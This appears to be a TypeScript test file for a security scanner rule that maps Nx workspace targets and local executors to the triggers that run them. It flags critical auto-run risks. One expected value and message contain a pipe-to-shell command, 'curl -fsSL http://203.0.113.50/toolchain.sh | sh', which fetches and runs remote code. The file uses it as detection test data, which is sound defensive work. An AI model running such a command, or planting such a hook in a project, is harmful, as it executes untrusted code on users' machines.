import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('maps run-commands targets under the trigger their name implies, with the files they run', async () => {
  const report = await scanFixture(fixture('match/run-commands-pipe'));
  assert.deepEqual(
    report.executionMap.filter(s => s.kind === 'nx-target').map(s => `${s.trigger} ${s.name ?? ''} ${s.command ?? ''} ${s.entry ?? '-'}`),
    [
      'install api:setup npm ci -',
      'install api:setup curl -fsSL http://203.0.113.50/toolchain.sh | sh -',
      'start api:serve node apps/api/src/main.js apps/api/src/main.js',
    ],
  );
  const [f] = findingsOf(report, 'autorun/nx-target', 'critical');
  assert.equal(f?.location.line, 12);
  assert.equal(f.message, '`nx run api:setup` runs `curl -fsSL http://203.0.113.50/toolchain.sh | sh`, which pipes a download into sh.');
});

it('follows a local executor to its implementation, and takes the severity of what that code does', async () => {
  const report = await scanFixture(fixture('match/local-executor'));
  const surface = report.executionMap.find(s => s.kind === 'nx-target');
  assert.equal(surface?.entry, 'tools/executors/seed/impl.js');
  assert.equal(surface.trigger, 'build');
  const [f] = findingsOf(report, 'autorun/nx-target');
  assert.equal(f?.severity, 'critical');
  assert.match(
    f.message,
    /^`nx run api:seed` runs the executor \.\/tools\/executors\/seed:seed, whose code is tools\/executors\/seed\/impl\.js in this repository\./,
  );
  assert.equal(report.verdict, 'block');
});
